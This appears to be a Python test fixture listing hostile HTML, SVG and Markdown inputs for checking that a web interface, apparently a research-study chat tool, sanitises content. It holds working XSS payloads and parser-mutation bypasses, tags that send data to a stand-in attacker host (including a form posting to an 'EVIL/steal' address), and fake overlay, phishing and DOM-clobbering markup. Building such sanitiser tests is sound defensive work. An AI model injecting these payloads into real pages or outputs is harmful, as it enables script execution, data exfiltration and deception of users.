"""HTML and SVG: scripts, handlers, what parsers mend into something else, requests, and what lies over a page."""

from __future__ import annotations

from tests.fakes.hostile.payload import EVIL, PWN, of

SCRIPTS = of(
    "script",
    "run a script",
    {
        "plain": f"<script>{PWN}</script>",
        "capitals": f"<ScRiPt>{PWN}</sCrIpT>",
        "foreign": f'<script src="https://{EVIL}/x.js"></script>',
        "no scheme": f"<script src=//{EVIL}/x.js></script>",
        "data": f'<script src="data:text/javascript,{PWN}"></script>',
        "broken": f"<scr<script>ipt>{PWN}</scr</script>ipt>",
        "unclosed": f"<script>{PWN}//",
        "svg": f"<svg><script>{PWN}</script></svg>",
        "template literal": f"${{{PWN}}}",
        "cdata": f"<svg><![CDATA[><script>{PWN}</script>]]></svg>",
        "comment": f"<!--><script>{PWN}</script>-->",
        "stolen nonce": f'<script nonce="guess">{PWN}</script>',
        "null": f"<scr\ufffdipt>{PWN}</scr\ufffdipt>",
        "import map": '<script type="importmap">{"imports":{"/parley/api.js":"data:text/javascript,0"}}</script>',
    },
)

HANDLERS = of(
    "handler",
    "run a script by an attribute",
    {
        "image": f"<img src=x onerror={PWN}>",
        "image, slashes": f"<img/src=x/onerror={PWN}>",
        "image, new lines": f"<img\nsrc=x\nonerror\n=\n{PWN}>",
        "image, no end": f"<img src=x onerror={PWN} ",
        "image, entity": "<img src=x onerror=&#119;indow.__pwned=1>",
        "svg": f"<svg onload={PWN}>",
        "svg animate": f"<svg><animate onbegin={PWN} attributeName=x dur=1s>",
        "body": f"<body onload={PWN}>",
        "details": f"<details open ontoggle={PWN}><summary>x</summary></details>",
        "focus": f"<input autofocus onfocus={PWN}>",
        "key": f'<a href="#x" accesskey="x" onclick="{PWN}">x</a>',
        "video": f"<video><source onerror={PWN}></video>",
        "over": f'<b onmouseover="{PWN}" onpointerenter="{PWN}">over me</b>',
        "style event": f"<style>@keyframes k{{}}</style><b style='animation-name:k' onanimationstart={PWN}>x</b>",
        "popover": f"<button popovertarget=p>x</button><div popover id=p onbeforetoggle={PWN}>x</div>",
    },
)

MUTATIONS = of(
    "mutation",
    "become a script when a parser mends it",
    {
        "mglyph": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={PWN}&gt;">',
        "math style": f"<math><style><img title='</style><img src=x onerror={PWN}>'>",
        "annotation": f'<math><annotation-xml encoding="text/html"><img src=x onerror={PWN}></annotation-xml></math>',
        "few tags, handlers": f"<sub onclick={PWN}>x</sub><br onload={PWN}>\n\n<details ontoggle={PWN}>\nx\n</details>",
        "few tags, around others": f"<details><summary><img src=x onerror={PWN}></summary>\n\n"
        f"<sub><script>{PWN}</script></sub>\n\n</details>",
        "few tags, crossed": f"<details>\n\n<sub><sup></sub>\n\n</details></sup></div></section><svg onload={PWN}>",
        "no script": f'<noscript><p title="</noscript><img src=x onerror={PWN}>">',
        "template": f"<template><img src=x onerror={PWN}></template>",
        "shadow": f"<div><template shadowrootmode=open><img src=x onerror={PWN}></template></div>",
        "title": f'<title><a title="</title><img src=x onerror={PWN}>">',
        "plain text": f"<plaintext><img src=x onerror={PWN}>",
        "foreign": f"<svg><foreignObject><img src=x onerror={PWN}></foreignObject></svg>",
        "svg style": f'<svg></p><style><a id="</style><img src=1 onerror={PWN}>">',
        "form in form": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={PWN}>",
        "select": "<select><template><style><!--</style><a rel='--></style></template>"
        f"</select><img src onerror={PWN}>'>",
        "comment": f"<!-- --!><img src=x onerror={PWN}> -->",
        "entities": f"&lt;img src=x onerror={PWN}&gt;",
        "entities, twice": f"&amp;lt;img src=x onerror={PWN}&amp;gt;",
        "entities, hex, open": "&#x3c&#x73cript&#x3ealert(1)",
        "full width": f"\uff1cscript\uff1e{PWN}\uff1c/script\uff1e",
        "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    },
)

FOREIGN = of(
    "request",
    "tell another host that somebody reads this",
    {
        "image": f'<img src="https://{EVIL}/p.png?d=secret">',
        "markdown image": f"![p](https://{EVIL}/p.png?d=secret)",
        "markdown image, reference": f"![p][1]\n\n[1]: https://{EVIL}/p.png",
        "picture": f'<picture><source srcset="https://{EVIL}/p.png"><img></picture>',
        "audio": f'<audio src="https://{EVIL}/a.mp3" autoplay></audio>',
        "frame": f'<iframe src="https://{EVIL}/"></iframe>',
        "frame, script": '<iframe src="javascript:parent.__pwned=1"></iframe>',
        "frame, document": "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
        "object": f'<object data="https://{EVIL}/o.swf"></object>',
        "embed": f'<embed src="https://{EVIL}/e.swf">',
        "style sheet": f'<link rel="stylesheet" href="https://{EVIL}/x.css">',
        "prefetch": f'<link rel="prefetch" href="https://{EVIL}/x">',
        "import": f"<style>@import url(https://{EVIL}/x.css);</style>",
        "style": f"<div style=\"background:url('https://{EVIL}/b.png')\">x</div>",
        "svg image": f'<svg><image href="https://{EVIL}/i.png"/></svg>',
        "svg use": f'<svg><use href="https://{EVIL}/u.svg#x"/></svg>',
        "svg image, markdown": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "background": f'<table background="https://{EVIL}/t.png"><tr><td>x</table>',
        "ping": f'<a href="/" ping="https://{EVIL}/ping">x</a>',
        "go on": f'<meta http-equiv="refresh" content="0;url=https://{EVIL}/">',
        "base": f'<base href="https://{EVIL}/">',
        "portal": f'<portal src="https://{EVIL}/"></portal>',
        "mermaid": f'```mermaid\ngraph TD;\nA["<img src=https://{EVIL}/m.png>"]-->B;\n```',
        "mermaid, click": '```mermaid\ngraph TD;\nA-->B;\nclick A "javascript:window.__pwned=1"\n```',
        "mermaid, tildes": f'~~~ mermaid\ngraph TD;\nA["<img src=x onerror={PWN}>"]-->B;\n~~~',
        "mermaid, quoted": "> ```mermaid\n> graph TD;\n> A-->B;\n> ```",
    },
)

OVERLAYS = of(
    "overlay",
    "look like a part of the page, or hide one",
    {
        "whole screen": '<div style="position:fixed;inset:0;background:red;z-index:99999">Your session is over</div>',
        "dialog": "<dialog open>Enter your Prolific id: <input></dialog>",
        "form": f'<form action="https://{EVIL}/steal"><input name="email"><button>Send</button></form>',
        "form, own": "<form data-act='withdraw'><button type=submit>Continue</button></form>",
        "form, target": f'<input form="x" formaction="https://{EVIL}/" type=submit>',
        "button, own": '<button data-act="withdraw">Continue</button>',
        "hidden page": "<style>body{display:none}</style>",
        "hidden button": "<style>#send{opacity:0}</style>",
        "clobber": '<a id="gradio_config"></a><form id="parley"></form><img name="body">',
        "clobber, completion": '<b id="completion-code">WRONG-CODE</b>',
        "mark": '<div data-mark="x" data-slot="A" data-field="answer">x</div>',
        "closing tags": "</p></div></section></main></body></html><h1>Gone</h1>",
        "heading": '<h1 id="heading">Thank you, you are done</h1>',
        "select": "<select><option>right<option>wrong</select>",
        "contenteditable": "<div contenteditable autofocus>write here</div>",
        "status": "<div role=alert aria-live=assertive>Your answer was wrong</div>",
    },
)
